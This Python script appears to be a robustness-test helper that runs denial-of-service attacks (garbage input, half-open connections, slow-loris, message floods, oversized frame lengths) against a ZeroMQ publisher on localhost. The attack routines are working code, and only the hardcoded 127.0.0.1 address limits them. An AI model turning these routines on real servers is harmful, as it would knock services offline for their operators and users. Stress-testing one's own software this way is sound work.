"""Attacks a publisher without keys, until it is killed.

    attacker.py KIND EVENTS_PORT SYNC_PORT

Says "attacking" once it has begun, and then now and then how much it has done.
"""

import os
import random
import socket
import struct
import sys
import time

MORE, LONG = 1, 2


def greeting(mechanism=b"NULL"):
    return (bytes([0xFF]) + bytes(8) + bytes([0x7F, 3, 0]) + mechanism).ljust(64, b"\0")


def connect(port):
    stream = socket.create_connection(("127.0.0.1", port))
    stream.settimeout(2)
    return stream


def handshake(port, kind):
    stream = connect(port)
    stream.sendall(greeting())
    stream.recv(64, socket.MSG_WAITALL)
    ready = b"\x05READY\x0bSocket-Type" + struct.pack(">I", len(kind)) + kind
    stream.sendall(bytes([4, len(ready)]) + ready)
    head = stream.recv(2, socket.MSG_WAITALL)
    stream.recv(head[1], socket.MSG_WAITALL)
    return stream


def frame(flags, body):
    return bytes([flags | LONG]) + struct.pack(">Q", len(body)) + body


class Attack:
    def __init__(self, events, sync):
        self.ports = [(events, b"SUB"), (sync, b"DEALER")]
        self.done = 0
        self.told = 0

    def tell(self):
        self.done += 1
        if time.monotonic() - self.told > 0.5:
            print(f"attacking {self.done}", flush=True)
            self.told = time.monotonic()

    def port(self):
        return random.choice(self.ports)

    def until_cut(self, stream, pieces):
        try:
            for piece in pieces:
                stream.sendall(piece)
                self.tell()
        except OSError:
            pass
        stream.close()

    def garbage(self):
        start = random.choice([b"", b"\xff", greeting(), greeting(b"CURVE")])
        self.until_cut(connect(self.port()[0]), [start + os.urandom(65536)])

    def half_open(self):
        streams = []
        for _ in range(500):
            stream = connect(self.port()[0])
            stream.sendall(greeting()[: random.randrange(64)])
            streams.append(stream)
            self.tell()
        time.sleep(1)

    def slow_loris(self):
        streams = [connect(self.port()[0]) for _ in range(100)]
        for byte in greeting() + os.urandom(64):
            for stream in list(streams):
                try:
                    stream.sendall(bytes([byte]))
                except OSError:
                    streams.remove(stream)
            self.tell()
            time.sleep(0.05)

    def bombs(self):
        events, kind = self.ports[0]
        many = (frame(0, b"\x01" + os.urandom(16)) * 1 for _ in range(100_000))
        self.until_cut(handshake(events, kind), many)
        self.until_cut(handshake(events, kind), [frame(0, b"\x01" + b"x" * (1 << 20))])

    def flood(self):
        sync, kind = self.ports[1]
        asked = b"\x01\x03" + bytes(8) + b"\x02t1\0"
        pieces = (frame(0, asked if n % 10 else os.urandom(50)) * 20 for n in range(500))
        self.until_cut(handshake(sync, kind), pieces)

    def endless(self):
        stream = handshake(*self.port())
        piece = frame(MORE, bytes(random.choice([0, 900]))) * 64
        self.until_cut(stream, (piece for _ in range(10_000)))

    def oversize(self):
        stream = handshake(*self.port())
        length = random.choice([4 << 20, 1 << 32, 1 << 63, (1 << 64) - 1])
        stream.sendall(bytes([LONG]) + struct.pack(">Q", length))
        self.until_cut(stream, (bytes(65536) for _ in range(1_000)))


def main():
    kind, events, sync = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    attack = Attack(events, sync)
    while True:
        try:
            getattr(attack, kind)()
        except OSError:
            # Cut off before it has begun; again.
            time.sleep(0.01)


main()
